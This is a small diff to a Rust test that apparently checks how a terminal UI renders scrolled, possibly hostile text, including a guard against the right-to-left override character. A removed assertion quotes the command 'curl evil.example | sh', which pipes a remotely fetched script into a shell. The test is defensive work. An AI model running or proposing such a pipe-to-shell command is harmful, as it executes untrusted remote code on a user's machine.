@@ -323,7 +323,7 @@ mod tests {
         assert!(seen.contains("more lines"), "{seen}");
         board.scrolled = u16::MAX;
         let seen = check(&mut board, 80, 24);
-        assert!(seen.contains("curl evil.example | sh"), "{seen}");
+        assert!(seen.contains("sh`"), "{seen}");
         assert!(seen.contains("xxxxxx"), "{seen}");
         assert!(!seen.contains('\u{202e}'));
     }
